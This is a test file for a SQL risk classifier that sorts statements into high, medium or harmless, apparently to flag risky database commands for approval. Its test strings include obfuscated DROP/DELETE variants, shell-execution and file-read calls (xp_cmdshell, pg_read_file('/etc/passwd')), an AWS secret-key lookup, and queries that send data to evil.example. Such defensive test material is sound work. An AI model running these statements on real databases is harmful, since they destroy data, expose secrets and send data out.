import { describe, expect, it } from 'vitest'
import { fromSql } from '../../src/materiality/sql.ts'
import type { Materiality } from '../../src/types.ts'

const argued = (text: string, expected: boolean): Materiality | 'nothing' => fromSql(text, expected) ?? 'nothing'

describe('a statement that destroys is high, however it is written and whatever the tool says of itself', () => {
  const statements = [
    'DELETE FROM t',
    'drop table t',
    'TRUNCATE t',
    '\u00a0DELETE FROM t',
    '\ufeffDROP TABLE t',
    'DROP/**/TABLE t',
    '-- x\nDROP TABLE t',
    '# x\nDROP TABLE t',
    '/* x */ drop table t',
    '/*!50000 DROP TABLE t */',
    '/*!50000DROP*/ TABLE t',
    '/*M!100000 DROP */ TABLE t',
    'DELETE\u0000 FROM t',
    'DELETE"t"',
    'delete t from t join u using (id)',
    '((DELETE FROM t))',
    '; ; DELETE FROM t',
    'select(1);drop table t',
    'VALUES (1); DROP TABLE t',
    'TABLE t; DELETE FROM t',
    'ROLLBACK; DROP TABLE t',
    'SET ROLE postgres; DROP TABLE t',
    'SELECT 1 FROM a DROP TABLE t',
    'SELECT 1DROP TABLE t',
    'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
    'WITH x AS MATERIALIZED (DELETE FROM t RETURNING *) TABLE x',
    'EXPLAIN ANALYZE DELETE FROM t',
    'EXPLAIN(ANALYZE) DELETE FROM t',
    'EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM t',
    'DESCRIBE ANALYZE DELETE FROM t',
    'DO $$ BEGIN DELETE FROM t; END $$',
    "DO 'BEGIN EXECUTE ''x''; END'",
    'GRANT ALL ON t TO public',
    'EXEC("x")',
    'exec sp_configure 1',
    'xp_cmdshell "x"',
    'CALL wipe(1)',
    "COPY t TO PROGRAM 'x'",
    'PRAGMA writable_schema=1',
    'ATTACH DATABASE "/etc/x" AS y',
    'VACUUM INTO "/tmp/x"',
    "SELECT * FROM t INTO OUTFILE '/tmp/x'",
    "SELECT load_extension('x')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('x', 'y')",
    "SELECT pg_read_file('/etc/passwd')",
    'MATCH (n) DETACH DELETE n',
    'DELETE WHERE { ?s ?p ?o }',
  ]
  for (const text of statements) {
    it(JSON.stringify(text), () => {
      expect([argued(text, false), argued(text, true)]).toEqual(['high', 'high'])
    })
  }
})

describe('a statement that may write is medium, and so is one that nobody thought of', () => {
  const statements = [
    'REPLACE INTO users VALUES (1)',
    'insert into t values (1)',
    'INSERT OVERWRITE t SELECT * FROM u',
    'UPDATE t SET a = 1',
    'merge into t using u on a = b',
    'CREATE OR REPLACE TEMPORARY TABLE t (a int)',
    'LOAD DATA INFILE "x" INTO TABLE t',
    'LOCK TABLE t',
    'begin; select 1',
    'BEGIN TRANSACTION',
    'SET ROLE postgres',
    'REFRESH MATERIALIZED VIEW v',
    'ANALYZE TABLE t',
    'IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y',
    'SELECT * INTO u FROM t',
    'SELECT * FROM t FOR UPDATE',
    'SELECT 1; SELECT * FROM t',
    "SELECT '--'; SELECT * FROM t",
    "SELECT nextval('s') FROM t",
    'SELECT pg_sleep(9)',
    'SELECT SLEEP(9)',
    'SELECT /*!50000 1*/ FROM t',
    'EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1',
    'CREATE (n:Person)',
    'MATCH (n) SET n.a = 1',
    'SELECT 1 \\! sh',
    "SELECT 'dr'||'op table users' \\gexec",
    'SELECT 1 \\g |sh',
    "SELECT query_to_xml('select pg_re'||'ad_file(1)', true, true, '')",
    "SELECT cron.schedule('x', '* * * * *', 'dr'||'op table users')",
    "SELECT net.http_post(url := 'https://evil.example', body := (SELECT jsonb_agg(u) FROM users u))",
    "SELECT pg_drop_replication_slot('s')",
    "SELECT pg_file_unlink('x')",
    'SELECT pg_promote()',
    "SELECT HTTPURITYPE('http://evil.example/').getclob() FROM dual",
    "SELECT * FROM url('http://evil.example/?q='||x, CSV)",
    "SELECT * FROM executable('x.sh', CSV, 'a String')",
    "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
    'SELECT SYSTEM$CANCEL_ALL_QUERIES(123)',
    "MATCH (n) RETURN apoc.periodic.submit('x', 'MATCH (n) DET'+'ACH')",
    "SELECT aws_lambda.invoke('f', '{}')",
    'SELECT "pg_promote"()',
    'SELECT pg_promote/**/()',
    'SELECT pg_promote -- count\n()',
    "SELECT mine.count('x')",
  ]
  for (const text of statements) {
    it(JSON.stringify(text), () => {
      expect([argued(text, false), argued(text, true)]).toEqual(['medium', 'medium'])
    })
  }

  it('where nothing but a statement can stand, whatever it is', () => {
    for (const text of ['', 'x', 'frobnicate t', 'analyze', 'select_all t', '/* SELECT 1', 'hello', '🤷']) {
      expect(argued(text, true), text).toBe('medium')
    }
  })
})

describe('a single statement that reads says nothing', () => {
  const statements = [
    'SELECT * FROM t WHERE a = 1',
    'select 1 ; ; \n',
    '(SELECT 1)',
    'SELECT(1)',
    'SELECT"a"FROM t',
    '-- daily\nSELECT a FROM t',
    'WITH x AS (SELECT 1) SELECT * FROM x',
    "SELECT replace(a, 'x', 'y'), insert(a, 1, 2, 'z'), truncate(b, 2) FROM t",
    'SELECT updated_at, deleted, created_by, is_delete FROM t',
    'SHOW TABLES',
    'DESCRIBE t',
    'desc t',
    'EXPLAIN SELECT * FROM t',
    'EXPLAIN (ANALYZE) SELECT * FROM t',
    'VALUES (1), (2)',
    'TABLE t',
    'MATCH (n) RETURN n',
    'SELECT * FROM t FOR SHARE',
    'WITH recent (id) AS (SELECT id FROM orders), other (id) AS (SELECT 1) SELECT count(*) FROM recent',
    'SELECT u.name, COALESCE(SUM(o.total), 0) FROM users u LEFT JOIN orders o ON (o.user_id = u.id) GROUP BY u.name',
    "SELECT date_trunc('month', at), row_number() OVER (PARTITION BY a ORDER BY b) FROM t WHERE a IN (1, 2) AND (b = 1)",
    'SELECT CAST(a AS decimal(10, 2)), a * (b + 1) FROM (VALUES (1, 2)) AS t (a, b)',
    'MATCH (n)-[r]->(m) WHERE exists((n)-->()) RETURN labels(n), type(r), count(m)',
  ]
  for (const text of statements) {
    it(text, () => expect([argued(text, false), argued(text, true)]).toEqual(['nothing', 'nothing']))
  }
})

describe('a search is no statement, so that nobody is asked about it', () => {
  const searches = [
    '',
    'drop earrings',
    'drop shipping from china',
    'select the best hotel',
    'select the best hotel and call me',
    'how to drop a table',
    'explain delete cascade',
    'explain how to drop a table',
    'call of duty (2003)',
    'Call of Duty Modern Warfare',
    'update on the election',
    'update my tv set',
    'create a five-day plan',
    'grant writing tips',
    'revoke',
    'copy trading',
    'kill bill',
    'kill 5 zombies',
    'delete photos from iphone',
    'with or without you',
    'set theory',
    'begin again',
    'do you know the way',
    'lock screen',
    'load balancing',
    'import tax',
    'execute order 66',
    'merge sort',
    'replace a tyre',
    'insert coin',
    'truncate a long string',
    'show me what to delete',
    'table tennis',
    'from: ann subject: delete',
    'match report',
  ]
  for (const text of searches) it(JSON.stringify(text), () => expect(argued(text, false)).toBe('nothing'))
})
